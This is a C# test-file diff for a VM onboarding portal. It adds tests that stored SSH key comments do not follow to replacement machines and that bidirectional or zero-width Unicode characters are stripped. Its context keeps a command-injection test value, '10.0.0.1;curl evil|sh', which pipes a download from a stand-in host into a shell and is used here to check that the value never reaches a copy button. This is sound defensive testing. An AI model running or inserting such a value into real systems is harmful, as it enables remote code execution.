@@ -2,6 +2,7 @@ using System.Buffers.Binary;
 using System.Text.Json;
 using HeroOnboarding.Deployer;
 using HeroOnboarding.Pool;
+using HeroOnboarding.Tests.Stores;
 using HeroOnboarding.Tests.Support;
 using HeroOnboarding.Vms;
 using HeroOnboarding.Web;
@@ -73,6 +74,18 @@ public sealed class WhatOthersRunInAShell
         Assert.Equal([Key], await ToldAsync(portal));
     }
 
+    [Theory, BothDatabases]
+    public async Task A_comment_that_was_stored_before_does_not_follow_to_the_next_machine(Db db)
+    {
+        await using var portal = await Portal.StartAsync(db, Portal.Machines(2));
+        var asha = await portal.SignUpWithPlanAsync("asha");
+        var sid = (await asha.AllocateAsync()).Expect(201).Text("sid");
+        await portal.AcceptsAsync("UPDATE vm_allocations SET ssh_public_key = {0}", $"{Key} {Comment}");
+        await portal.AcceptsAsync("DELETE FROM outbox");
+        (await asha.PostAsync("/vm/replace", new { allocation_sid = sid })).Expect(201);
+        Assert.Equal([Key], await ToldAsync(portal));
+    }
+
     [Theory]
     [InlineData("10.20.0.1", true)]
     [InlineData("vm-1.example.org", true)]
@@ -132,6 +145,22 @@ public sealed class WhatOthersRunInAShell
         Assert.Contains("10.0.0.1;curl evil|sh", page, StringComparison.Ordinal);
         Assert.DoesNotContain("data-copy=\"10.0.0.1;curl", page, StringComparison.Ordinal);
         Assert.Contains("data-copy=\"10.0.0.2\"", page, StringComparison.Ordinal);
+    }
+
+    /// <summary>Every character that Unicode 16 calls a bidirectional control, and those that have no width.</summary>
+    [Fact]
+    public void Characters_that_deceive_are_removed_and_letters_of_all_scripts_stay()
+    {
+        const string deceiving = "\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060"
+            + "\u2066\u2067\u2068\u2069\ufeff";
+        foreach (var c in deceiving)
+        {
+            Assert.Equal("ab", SafeText.WithoutDeceiving($"a{c}b"));
+            Assert.Equal("ab", PoolJson.Untroubled($"a{c}b"));
+        }
+        const string letters = "Åsha ашá شكرا 谢谢 नमस्ते \U0001f600 a\u0301 line\nbreak";
+        Assert.Equal(letters, SafeText.WithoutDeceiving(letters));
+        Assert.DoesNotContain(letters, SafeText.IsDeceiving);
     }
 
     [Theory, BothDatabases]
